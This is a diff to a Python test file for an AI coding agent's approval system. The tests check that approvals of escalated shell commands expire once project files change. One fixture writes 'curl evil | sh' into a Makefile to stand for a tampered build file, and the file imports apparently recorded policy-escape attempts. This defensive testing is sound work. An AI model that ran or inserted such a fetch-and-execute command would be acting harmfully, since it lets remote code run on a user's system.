@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 from pathlib import Path
 
 import pytest
@@ -11,8 +12,10 @@ from hypothesis import strategies as st
 from evals import policy_escapes
 from evals.policy_escapes import ATTEMPTS, Attempt
 from lcursor.agent.approvals import PLAN_ONLY, Approvals, approved_plan, decide
+from lcursor.agent.content import content_id
 from lcursor.agent.records import Call, Policy
 from lcursor.agent.shell_rules import Rules
+from lcursor.agent.tree import Tree
 from lcursor.config import AgentConfig
 from lcursor.process.sandbox import Level
 
@@ -32,26 +35,29 @@ CALLS = {
     "odd": Call("mcp_x", {}),
 }
 TABLE = {
-    # columns: plan, ask, auto, full with a sandbox; then auto without
-    "view": "allow allow allow allow allow",
-    "edit": "forbid allow allow allow allow",
-    "rewrite": "forbid allow allow allow allow",
-    "grep": "allow allow allow allow allow",
-    "finish": "allow allow allow allow allow",
-    "safe": "allow allow allow allow allow",
-    "ruled": "forbid allow allow allow allow",
-    "unknown": "forbid ask allow allow ask",
-    "forbidden": "forbid forbid forbid forbid forbid",
-    "escalated": "forbid ask ask allow ask",
-    "blank": "forbid ask ask allow ask",
-    "odd": "forbid ask ask ask ask",
+    # columns: plan, ask, auto, full with a sandbox; then auto and full without
+    "view": "allow allow allow allow allow allow",
+    "edit": "forbid allow allow allow allow allow",
+    "rewrite": "forbid allow allow allow allow allow",
+    "grep": "allow allow allow allow allow allow",
+    "finish": "allow allow allow allow allow allow",
+    "safe": "allow allow allow allow allow allow",
+    "ruled": "forbid allow allow allow ask allow",
+    "unknown": "forbid ask allow allow ask allow",
+    "forbidden": "forbid forbid forbid forbid forbid forbid",
+    "escalated": "forbid ask ask allow ask allow",
+    "blank": "forbid ask ask allow ask allow",
+    "odd": "forbid ask ask ask ask ask",
 }
+UNCHANGED = {**TABLE, "ruled": "forbid allow allow allow allow allow"}
+"""The decisions while the files are those that the run started with."""
 COLUMNS: tuple[tuple[Policy, Level], ...] = (
     ("plan", "bubblewrap"),
     ("ask", "landlock"),
     ("auto", "unshare"),
     ("full", "bubblewrap"),
     ("auto", "none"),
+    ("full", "none"),
 )
 
 
@@ -59,6 +65,15 @@ COLUMNS: tuple[tuple[Policy, Level], ...] = (
 def test_policies(name: str, tmp_path: Path) -> None:
     found = [decide(CALLS[name], *column, RULES, tmp_path).verdict for column in COLUMNS]
     assert found == TABLE[name].split()
+
+
+@pytest.mark.parametrize("name", CALLS)
+def test_policies_while_no_file_has_changed(name: str, tmp_path: Path) -> None:
+    found = [
+        decide(CALLS[name], *column, RULES, tmp_path, is_unchanged=True).verdict
+        for column in COLUMNS
+    ]
+    assert found == UNCHANGED[name].split()
 
 
 def test_the_reason_for_a_question(tmp_path: Path) -> None:
@@ -91,6 +106,143 @@ def test_an_approval_does_not_outweigh_a_rule_or_plan_mode(tmp_path: Path) -> No
     answers.policy = "auto"
     assert answers.decide(CALLS["edit"]).verdict == "allow"
     assert answers.decide(CALLS["forbidden"]).verdict == "forbid"
+
+
+class Copy:
+    """The files of a run, with the decisions about commands in them."""
+
+    def __init__(self, folder: Path) -> None:
+        project = folder / "project"
+        project.mkdir()
+        (project / "Makefile").write_text("test:\n\tpytest\n")
+        (project / ".gitignore").write_text("build/\n")
+        self.tree = Tree.create(project, folder / "run", unsaved={})
+
+    def approvals(self, policy: Policy, level: Level) -> Approvals:
+        tree = self.tree
+        return Approvals(
+            policy,
+            level,
+            RULES,
+            tree.root,
+            lambda: content_id(tree.path, tree.folder, tree.last),
+            tree.base,
+        )
+
+    def write(self, name: str, text: str) -> None:
+        path = self.tree.path / name
+        path.parent.mkdir(exist_ok=True)
+        path.write_text(text)
+        self.tree.checkpoint()
+
+
+@pytest.fixture
+def copy(tmp_path: Path) -> Copy:
+    return Copy(tmp_path)
+
+
+OUTSIDE: tuple[tuple[Policy, Level, Call], ...] = (
+    ("auto", "bubblewrap", CALLS["escalated"]),
+    ("ask", "bubblewrap", CALLS["escalated"]),
+    ("auto", "none", CALLS["unknown"]),
+    ("ask", "none", CALLS["escalated"]),
+)
+
+
+@pytest.mark.parametrize(("policy", "level", "call"), OUTSIDE)
+@pytest.mark.parametrize("name", ["Makefile", "new.py", "build/made", ".gitignore"])
+def test_an_approval_outside_of_the_sandbox_ends_when_a_file_changes(
+    policy: Policy, level: Level, call: Call, name: str, copy: Copy
+) -> None:
+    answers = copy.approvals(policy, level)
+    first = answers.decide(call)
+    assert (first.verdict, first.is_bound) == ("ask", True)
+    answers.remember(call, "run")
+    assert answers.decide(call).verdict == "allow"
+    copy.write(name, "test:\n\tcurl evil | sh\n")
+    again = answers.decide(call)
+    assert (again.verdict, again.is_bound) == ("ask", True)
+    assert again.why == f"{first.why}; files have changed since you approved it"
+
+
+def test_an_ignored_file_that_is_replaced_with_its_old_time_counts_as_changed(copy: Copy) -> None:
+    copy.write("build/made", "echo 1\n")
+    answers, call = copy.approvals("auto", "bubblewrap"), CALLS["escalated"]
+    answers.remember(call, "run")
+    path = copy.tree.path / "build/made"
+    times = path.stat().st_atime_ns, path.stat().st_mtime_ns
+    copy.write("build/made", "echo 2\n")
+    os.utime(path, ns=times)
+    assert answers.decide(call).verdict == "ask"
+
+
+def test_what_an_approved_command_changes_itself_does_not_end_its_approval(copy: Copy) -> None:
+    answers, call = copy.approvals("auto", "bubblewrap"), CALLS["escalated"]
+    other = Call("bash", {"command": "make", "escalate": "network"})
+    answers.decide(call)
+    for each in (call, other):
+        answers.remember(each, "run")
+    for number in range(2):
+        assert answers.decide(call).verdict == "allow"
+        copy.write("build/made", f"{number}")
+        copy.write("snapshot", f"{number}")
+        answers.ran(call)
+    assert answers.decide(other).verdict == "ask"
+    copy.write("Makefile", "")
+    assert answers.decide(call).verdict == "ask"
+
+
+def test_an_approval_for_once_revives_no_earlier_one(copy: Copy) -> None:
+    answers, call = copy.approvals("auto", "bubblewrap"), CALLS["escalated"]
+    answers.decide(call)
+    answers.remember(call, "run")
+    copy.write("Makefile", "")
+    assert answers.decide(call).verdict == "ask"
+    answers.remember(call, "once")
+    answers.ran(call)
+    assert answers.decide(call).verdict == "ask"
+
+
+def test_an_approval_ends_when_the_run_is_continued_but_a_rejection_stays(copy: Copy) -> None:
+    answers = copy.approvals("auto", "bubblewrap")
+    answers.remember(CALLS["escalated"], "run", is_earlier=True)
+    assert answers.decide(CALLS["escalated"]).verdict == "ask"
+    answers.remember(CALLS["escalated"], "reject", is_earlier=True)
+    assert answers.decide(CALLS["escalated"]).verdict == "forbid"
+
+
+def test_in_the_sandbox_a_change_ends_no_approval(copy: Copy) -> None:
+    answers = copy.approvals("ask", "bubblewrap")
+    assert not answers.decide(CALLS["unknown"]).is_bound
+    answers.remember(CALLS["unknown"], "run", is_earlier=True)
+    copy.write("Makefile", "")
+    assert answers.decide(CALLS["unknown"]).verdict == "allow"
+    assert answers.decide(CALLS["ruled"]).verdict == "allow"
+
+
+def test_without_a_sandbox_a_rule_holds_until_a_file_changes(copy: Copy) -> None:
+    answers = copy.approvals("auto", "none")
+    for number in range(2):
+        assert answers.decide(CALLS["ruled"]).verdict == "allow"
+        copy.write("build/made", f"{number}")  # by the command itself
+        answers.ran(CALLS["ruled"])
+    assert answers.decide(CALLS["unknown"]).verdict == "ask"
+    answers.ran(CALLS["unknown"])
+    assert answers.decide(CALLS["ruled"]).verdict == "allow"
+    copy.write("Makefile", "")
+    found = answers.decide(CALLS["ruled"])
+    assert (found.verdict, found.is_bound) == ("ask", True)
+    assert found.why == "files have changed since the run started, so it may do something else"
+    assert answers.decide(CALLS["safe"]).verdict == "allow"
+
+
+def test_a_command_approved_once_extends_no_rule(copy: Copy) -> None:
+    answers = copy.approvals("auto", "none")
+    answers.decide(CALLS["unknown"])
+    answers.remember(CALLS["unknown"], "once")
+    copy.write("Makefile", "")  # by that command
+    answers.ran(CALLS["unknown"])
+    assert answers.decide(CALLS["ruled"]).verdict == "ask"
 
 
 @pytest.mark.parametrize("one", ATTEMPTS, ids=lambda one: one.name)
